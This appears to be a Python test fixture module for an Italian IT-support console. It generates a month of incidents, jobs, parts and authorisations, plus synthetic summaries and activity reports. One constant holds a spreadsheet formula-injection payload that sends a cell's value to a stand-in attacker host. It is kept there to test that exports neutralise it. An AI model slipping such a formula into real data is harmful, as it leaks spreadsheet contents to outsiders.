"""A month of work for the summary and activity report tests, made through the services
with a frozen clock, and a few summaries and activity reports built by hand for layouts
(many pages, long texts)."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

from techconsole.services.context import Context
from techconsole.services.customers import registry as customers
from techconsole.services.documents.activity import ActivityReport, ActivityRow
from techconsole.services.documents.report_views import Party
from techconsole.services.documents.summaries import MonthSummary, SummaryRow
from techconsole.services.incidents import authorisation, closing, intake, workflow
from techconsole.services.work import materials, timer

from .example import customer, rome, whole_job

#: a subject a spreadsheet would run as a formula, if it were not neutralised
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"Fattura")'
COMPANY = Party("La Vostra Assistenza S.r.l.", "Via dell'Esempio 1, 00100 Roma (RM)", "IT000")


def quick_job(
    ctx: Context,
    clock: Any,
    who: int,
    day: int,
    minutes: int,
    subject: str = "Stampante non stampa",
    *,
    part: str | None = None,
    month: int = 11,
    hour: int = 9,
) -> str:
    """A remote job on ``day`` of ``month`` 2026: ``minutes`` of work, maybe a 12,34 € part."""
    clock.value = rome(2026, month, day, hour, 0)
    number = intake.open_incident(ctx, intake.NewIncident(customer=who, subject=subject)).number
    timer.start(ctx, number)
    clock.advance(minutes=minutes)
    timer.stop(ctx)
    if part:
        materials.add_material(ctx, number, part, quantity="1", unit_price="12,34")
    closing.resolve(ctx, number, resolved=True)
    return number


@dataclass(frozen=True)
class Month:
    farmacia: int  # the examples.md customer: five reports in November
    ottica: int  # the fixture's customer: one report in November, one in December
    whole: str  # examples.md: 219,00 taxable with a late discount and a part
    warranty: str  # the same job under warranty: labour free
    formula: str  # a subject starting with "="
    revised: str  # a part added after resolution: rev. 1


def november(ctx: Context, clock: Any) -> Month:
    """Farmacia: the examples.md job, the same under warranty, a job with a part, one with
    a formula for a subject and one revised after resolution; Ottica: one job in November
    and one in December."""
    farmacia = customer(ctx)
    whole = whole_job(ctx, clock, who=farmacia)
    warranty = whole_job(  # bruno: the same hours as anna's job
        ctx.as_("bruno"), clock, who=farmacia, warranty=True, subject="Garanzia PC cassa"
    )
    quick_job(ctx, clock, farmacia, 2, 65, "Toner esaurito", part="Toner")
    formula = quick_job(ctx, clock, farmacia, 5, 20, FORMULA)
    revised = quick_job(ctx, clock, farmacia, 10, 41, "Cavo di rete")
    clock.advance(hours=1)
    materials.add_material(ctx, revised, "Cavo", quantity="2", unit_price="3,50")
    quick_job(ctx, clock, 1, 12, 30, "Backup non parte")
    quick_job(ctx, clock, 1, 1, 20, "Lavoro di dicembre", month=12)
    return Month(farmacia, 1, whole, warranty, formula, revised)


def ads_story(ctx: Context, clock: Any) -> str:
    """On customer 1 (made ADS customer's way): an employee's phone request waits for
    authorisation, the titolare authorises by e-mail, gives a server account, work is
    done, a note, resolved as not solved (a follow-up opens); the report is issued."""
    luca, maria = (
        next(c for c in customers.show_customer(ctx, 1).contacts if c.name == name)
        for name in ("Luca Verdi", "Maria Bianchi")
    )
    clock.value = rome(2026, 11, 16, 9, 0)
    number = intake.open_incident(
        ctx,
        intake.NewIncident(customer=1, subject="Server lento", requester=luca.id, channel="phone"),
    ).number
    clock.value = rome(2026, 11, 16, 9, 30)
    authorisation.authorise(ctx, number, contact_id=maria.id, via="email")
    authorisation.account_provided(ctx, number, contact_id=maria.id)
    clock.value = rome(2026, 11, 16, 10, 0)
    timer.start(ctx.as_("bruno"), number, kind="remote")
    clock.advance(minutes=50)
    timer.stop(ctx.as_("bruno"))
    workflow.note(ctx.as_("bruno"), number, "Verificati i log di sistema")
    closing.resolve(ctx.as_("bruno"), number, resolved=False)
    return number


def many_rows(count: int, customer_id: int = 42) -> MonthSummary:
    """A made-up month of ``count`` reports of 1..4 scatti, every fifth one with a part."""
    rows = []
    for i in range(count):
        units = i % 4 + 1
        labour = Decimal(40 * units).quantize(Decimal("0.01"))
        part = Decimal("12.34") if i % 5 == 0 else Decimal("0.00")
        taxable = labour + part
        vat = (taxable * Decimal("0.22")).quantize(Decimal("0.01"))
        rows.append(
            SummaryRow(
                number=f"RL-2026-{i + 1:04d}",
                revision=1 if i % 7 == 3 else 0,
                report_date=date(2026, 11, 1 + i % 30),
                incident=f"2026-{i + 100:06d}",
                subject=f"Intervento numero {i + 1} sul server",
                units=units,
                labour=labour,
                discounts=Decimal("0.00"),
                materials=part,
                taxable=taxable,
                vat=vat,
                total=taxable + vat,
                free_reason="warranty" if i % 11 == 0 else None,
                unit_price=Decimal("40.00"),
            )
        )
    return MonthSummary(
        "2026-11", customer_id, Party("Bar Sport", "Via Roma 1"), COMPANY, Decimal(22), tuple(rows)
    )


def many_operations(count: int, text: str = "Verificato il backup") -> ActivityReport:
    """A made-up activity report: ``count`` notes an hour apart from 1 November 08:00 UTC."""
    start = datetime(2026, 11, 1, 8, 0, tzinfo=UTC)
    rows = tuple(
        ActivityRow(
            start + timedelta(hours=i),
            "bruno",
            "Bruno Neri",
            f"2026-{i // 5 + 1:06d}",
            "note",
            f"{text} {i + 1}",
        )
        for i in range(count)
    )
    return ActivityReport(
        42,
        Party("Bar Sport", "Via Roma 1", "IT123"),
        True,
        COMPANY,
        date(2026, 11, 1),
        date(2026, 11, 30),
        "Europe/Rome",
        rows,
    )
